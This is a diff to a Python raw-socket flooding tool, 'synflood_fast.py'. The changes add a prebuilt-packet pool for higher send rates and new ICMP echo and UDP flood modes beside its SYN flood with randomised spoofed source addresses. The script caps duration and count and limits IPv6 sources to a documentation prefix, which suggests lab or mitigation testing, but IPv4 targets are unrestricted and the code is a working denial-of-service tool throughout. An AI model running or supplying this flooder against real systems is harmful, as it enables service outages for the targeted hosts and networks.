@@ -13,7 +13,12 @@ and the flood is bounded in time (<= 300 s) and count (<= 50 M).
 
 usage: synflood_fast.py --dst ADDR --port N [--rate PPS] [--seconds S] [--count N] [--procs P]
                         [--sources N] [--distinct [--start-index I]] [--src64 PREFIX] [--batch B]
+                        [--pool N] [--proto tcp|icmp|udp]
 rate 0 = as fast as possible. Prints one JSON line: {"sent", "errors", "seconds", "procs", ...}.
+
+--pool N builds N packets once (random sources, ports, sequence numbers) and sends them over and over:
+no per-packet work in Python, so the kernel's send path, not this script, sets the rate. --proto icmp
+(echo requests) and udp (16-byte datagrams to --port) are IPv4 only and always use a pool.
 """
 import argparse, ctypes, ipaddress, json, os, random, socket, struct, sys, time
 
@@ -35,6 +40,8 @@ ap.add_argument('--distinct', action='store_true', help='IPv6: every SYN from a 
 ap.add_argument('--batch', type=int, default=256)
 ap.add_argument('--start-index', type=int, default=0, help='IPv6 --distinct: first source index')
 ap.add_argument('--src64', help='IPv6: sources in this /64 (a lab one), random interface ids')
+ap.add_argument('--pool', type=int, default=0, help='send N prebuilt packets cyclically (0: build each one)')
+ap.add_argument('--proto', choices=('tcp', 'icmp', 'udp'), default='tcp')
 a = ap.parse_args()
 
 dst_ip = ipaddress.ip_address(a.dst)
@@ -54,6 +61,12 @@ if a.src64:
     if not V6 or a.distinct or not net.subnet_of(ipaddress.ip_network('2001:db8::/32')):
         sys.exit('--src64 needs an IPv6 destination, no --distinct, and a prefix in 2001:db8::/32')
     SRC64 = struct.unpack('!II', net.network_address.packed[:8])
+if a.proto != 'tcp':
+    if V6:
+        sys.exit('--proto icmp/udp: IPv4 destinations only')
+    a.pool = a.pool or 1 << 16
+if a.pool and (a.distinct or not 1 <= a.pool <= 1 << 17):
+    sys.exit('--pool takes 1 .. 131072 packets, and no --distinct (a pool repeats its sources)')
 B = max(1, min(a.batch, 1024))
 procs = max(1, a.procs)
 
@@ -92,7 +105,9 @@ def worker(idx, wfd):
     rng = random.Random()
     dst_b = dst_ip.packed
     opts = b'\x02\x04\x05\xb4' if not V6 else b'\x02\x04\x05\xa0'  # MSS 1460 / 1440
-    tcp_len = 20 + len(opts)
+    # The layer-4 header and payload: a SYN with MSS, or (pool only) an echo request / a datagram.
+    tcp_len = 20 + len(opts) if a.proto == 'tcp' else 8 + 16
+    ipproto = {'tcp': 6, 'icmp': 1, 'udp': 17}[a.proto]
     if V6:
         sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
         hlen = 40
@@ -103,32 +118,35 @@ def worker(idx, wfd):
         sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
         hlen = 20
         sa = struct.pack('<H', socket.AF_INET) + struct.pack('!H', 0) + dst_b + b'\0' * 8
-        const = words(dst_b) + 6 + tcp_len
+        const = words(dst_b) + ipproto + tcp_len
     try:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
     except OSError:
         pass
     # constant TCP words: dport, data offset/flags (SYN), window, urgent 0, options; ack 0.
-    const += a.port + ((((tcp_len // 4) << 12) | 0x02)) + 64240 + words(opts)
+    if a.proto == 'tcp':
+        const += a.port + ((((tcp_len // 4) << 12) | 0x02)) + 64240 + words(opts)
     plen = hlen + tcp_len
-    buf = ctypes.create_string_buffer(plen * B)
+    P = a.pool or B  # packets in the buffer: the pool, or one batch rebuilt before each send
+    buf = ctypes.create_string_buffer(plen * P)
     mv = memoryview(buf).cast('B')
-    for k in range(B):
+    for k in range(P):
         o = k * plen
         if V6:
             # version 6, payload length, next header TCP, hop limit 64, src filled later, dst
             struct.pack_into('!IHBB16s16s', mv, o, 6 << 28, tcp_len, 6, 64, b'\0' * 16, dst_b)
         else:
-            struct.pack_into('!BBHHHBBH4s4s', mv, o, 0x45, 0, plen, 0, 0, 64, 6, 0, b'\0' * 4, dst_b)
-        struct.pack_into('!HHIIBBHHH', mv, o + hlen, 0, a.port, 0, 0, (tcp_len // 4) << 4, 0x02, 64240, 0, 0)
-        mv[o + hlen + 20:o + plen] = opts
+            struct.pack_into('!BBHHHBBH4s4s', mv, o, 0x45, 0, plen, 0, 0, 64, ipproto, 0, b'\0' * 4, dst_b)
+        if a.proto == 'tcp':
+            struct.pack_into('!HHIIBBHHH', mv, o + hlen, 0, a.port, 0, 0, (tcp_len // 4) << 4, 0x02, 64240, 0, 0)
+            mv[o + hlen + 20:o + plen] = opts
     sa_buf = ctypes.create_string_buffer(sa, len(sa))
-    iovs = (IOVec * B)()
-    msgs = (MMsgHdr * B)()
+    iovs = (IOVec * P)()
+    msgs = (MMsgHdr * P)()
     base_addr = ctypes.addressof(buf)
     msgs_addr = ctypes.addressof(msgs)
     msg_size = ctypes.sizeof(MMsgHdr)
-    for k in range(B):
+    for k in range(P):
         iovs[k].base = base_addr + k * plen
         iovs[k].len = plen
         msgs[k].hdr.name = ctypes.addressof(sa_buf)
@@ -145,6 +163,44 @@ def worker(idx, wfd):
     getrand = rng.getrandbits
     fd = sock.fileno()
 
+    def fill(k):
+        nonlocal src_i
+        o = k * plen
+        r = getrand(88)
+        if a.proto != 'tcp':
+            src = base4 + ((r >> 48) % nsrc)
+            v4pack(mv, o + 12, src)
+            if a.proto == 'icmp':  # echo request: type 8, code 0, checksum, id, sequence, zeros
+                ident, sq = r & 0xffff, (r >> 16) & 0xffff
+                struct.pack_into('!BBHHH', mv, o + hlen, 8, 0, fold(0x0800 + ident + sq), ident, sq)
+            else:  # a datagram from a random port; the checksum over the pseudo header
+                sport = 1024 + (r & 0xffff) % 64000
+                s = const + (src >> 16) + (src & 0xffff) + sport + a.port + tcp_len
+                struct.pack_into('!HHHH', mv, o + hlen, sport, a.port, tcp_len, fold(s))
+            return
+        sport = 1024 + (r & 0xffff) % 64000
+        seq = (r >> 16) & 0xffffffff
+        if V6:
+            w0 = 0x20010db8
+            if SRC64:
+                w0, hi = SRC64
+            elif a.distinct:
+                hi = 0x01000000 | (src_i & 0xffffff)
+                src_i += procs
+            else:
+                hi = 0x01000000 | ((r >> 48) & 0xffffff)
+            iid = getrand(64)
+            v6src(mv, o + 8, w0, hi, iid)
+            s = (const + (w0 >> 16) + (w0 & 0xffff) + (hi >> 16) + (hi & 0xffff) + (iid >> 48) + ((iid >> 32) & 0xffff)
+                 + ((iid >> 16) & 0xffff) + (iid & 0xffff))
+        else:
+            src = base4 + ((r >> 48) % nsrc)  # 40 random bits
+            v4pack(mv, o + 12, src)
+            s = const + (src >> 16) + (src & 0xffff)
+        s += sport + (seq >> 16) + (seq & 0xffff)
+        tcppack(mv, o + hlen, sport, port, seq)
+        csumpack(mv, o + hlen + 16, fold(s))
+
     # Per-process share of the count and the rate.
     my_count = 0
     if a.count:
@@ -153,6 +209,9 @@ def worker(idx, wfd):
     sent = 0
     errors = 0
     src_i = a.start_index + idx  # distinct IPv6 sources: start + idx, start + idx + procs, ...
+    for k in range(a.pool):
+        fill(k)
+    pos = 0  # the pool's next packet
     t0 = time.time()
     end = t0 + a.seconds
     while True:
@@ -168,34 +227,14 @@ def worker(idx, wfd):
                 time.sleep(min(0.001, end - now))
                 continue
             n = min(n, allowed)
-        for k in range(n):
-            o = k * plen
-            r = getrand(88)
-            sport = 1024 + (r & 0xffff) % 64000
-            seq = (r >> 16) & 0xffffffff
-            if V6:
-                w0 = 0x20010db8
-                if SRC64:
-                    w0, hi = SRC64
-                elif a.distinct:
-                    hi = 0x01000000 | (src_i & 0xffffff)
-                    src_i += procs
-                else:
-                    hi = 0x01000000 | ((r >> 48) & 0xffffff)
-                iid = getrand(64)
-                v6src(mv, o + 8, w0, hi, iid)
-                s = (const + (w0 >> 16) + (w0 & 0xffff) + (hi >> 16) + (hi & 0xffff) + (iid >> 48) + ((iid >> 32) & 0xffff)
-                     + ((iid >> 16) & 0xffff) + (iid & 0xffff))
-            else:
-                src = base4 + ((r >> 48) % nsrc)  # 40 random bits
-                v4pack(mv, o + 12, src)
-                s = const + (src >> 16) + (src & 0xffff)
-            s += sport + (seq >> 16) + (seq & 0xffff)
-            tcppack(mv, o + hlen, sport, port, seq)
-            csumpack(mv, o + hlen + 16, fold(s))
+        if not a.pool:
+            for k in range(n):
+                fill(k)
+        if a.pool:
+            n = min(n, P - pos)
         done = 0
         while done < n:
-            r = libc.sendmmsg(fd, msgs_addr + done * msg_size, n - done, 0)
+            r = libc.sendmmsg(fd, msgs_addr + (pos + done) * msg_size, n - done, 0)
             if r < 0:
                 errors += n - done
                 e = ctypes.get_errno()
@@ -205,6 +244,8 @@ def worker(idx, wfd):
                 break
             done += r
         sent += done
+        if a.pool:
+            pos = (pos + done) % P
     os.write(wfd, json.dumps({'sent': sent, 'errors': errors, 'seconds': time.time() - t0}).encode())
 
 
